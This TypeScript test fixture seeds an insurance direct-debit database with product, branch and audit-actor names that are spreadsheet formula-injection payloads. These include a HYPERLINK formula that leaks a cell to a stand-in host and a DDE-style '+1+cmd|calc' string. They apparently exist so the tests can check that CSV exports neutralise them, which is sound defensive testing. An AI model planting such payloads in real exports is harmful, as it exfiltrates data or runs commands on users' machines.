import { PiiCipher } from '../../db/pii-cipher';
import { appendAudit } from '../../db/repositories/audit';
import { markAccepted, prepareAttempt } from '../../db/repositories/debits';
import { maskNumber } from '../../domain/masking';
import type { Db } from '../../db/connection';
import type { SimulatedPremium, SimulationResult } from '../../scripts/simulate/simulate';
import { samplePolicy, seedPolicy } from '../support/fixtures';

/** A formula Excel would run when the CSV is opened: it sends the cell to its left to a stranger. */
export const INJECTION = '=HYPERLINK("http://x"&A1,"查看")';

export const DATA_KEY = '44'.repeat(32);
export const HOLDER = samplePolicy();
export const DUE_MONTH = HOLDER.nextDueDate.slice(0, 7);

/**
 * One policy due in December 2026 whose product and branch were imported with names that are
 * formulas, an audit event whose actor is one, and its first debit accepted and waiting for the
 * day's pain.008: what every CSV and output file of these tests is written from.
 */
export async function seedInjectedPortfolio(db: Db): Promise<void> {
  await seedPolicy(db, new PiiCipher(DATA_KEY), HOLDER);
  await db('products').where({ code: HOLDER.productCode }).update({ name: INJECTION });
  await db('branches').where({ code: HOLDER.branchCode }).update({ name: '+1+cmd|calc' });
  await appendAudit(db, { kind: 'customer_refused', actor: INJECTION, policyNo: HOLDER.policyNo, dueDate: HOLDER.nextDueDate, detail: { reasonCode: 8 } });
  await appendAudit(db, { kind: 'hold_placed', actor: '@SUM(1+1)', policyNo: HOLDER.policyNo, dueDate: HOLDER.nextDueDate, detail: { kind: 'claim' } });
  const premium = await db('premium_dues').where({ policy_no: HOLDER.policyNo, due_date: HOLDER.nextDueDate }).first('id', 'amount_fen');
  const attempt = await prepareAttempt(db, {
    premiumDueId: premium!.id,
    attemptNo: 1,
    bankCode: HOLDER.bankCode,
    debtorAccountMasked: maskNumber(HOLDER.accountNo),
    amountFen: premium!.amount_fen,
    collectionDate: HOLDER.nextDueDate,
    workflowId: `renewal-${HOLDER.policyNo}-${HOLDER.nextDueDate}`,
    runId: 'run-1',
    activityId: '1',
  });
  await markAccepted(db, attempt.id, undefined);
}

/** A simulation's result as simulate() returns it, for writeSimulationOutputs, with these premiums. */
export function simulationResult(premiums: SimulatedPremium[]): SimulationResult {
  const rates = { byCase: '0.0%', byPremium: '0.0%' };
  const zero = { byCase: { numerator: 0, denominator: 0 }, byPremium: { numerator: 0, denominator: 0 } };
  return {
    scenario: 'scenarios/injected',
    month: DUE_MONTH,
    plan: null,
    scenarioPlans: [],
    shiftedYears: 0,
    simulatedFrom: '2026-11-01',
    simulatedTo: '2027-03-31',
    wallSeconds: 1,
    imports: [],
    inputErrors: [],
    events: [],
    premiums,
    kpis: {
      asOf: '2027-03-31',
      premiums: premiums.length,
      dueYuan: '0.00',
      paid: 0,
      lapsed: 0,
      open: 0,
      collectionRateByCase: '0.0%',
      collectionRateByPremium: '0.0%',
      cutoffs: { due_month: rates, next_month: rates, grace_end_month: rates },
      lapseRate: '0.0%',
      rates: { cutoffs: { due_month: zero, next_month: zero, grace_end_month: zero }, lapse: { numerator: 0, denominator: 0 } },
    },
    audit: { rows: 0, chainIntact: true },
    payments: { byWay: [], partPayments: 0, suspensionsUndone: 0, suspense: [] },
    emailsDelivered: 0,
  };
}
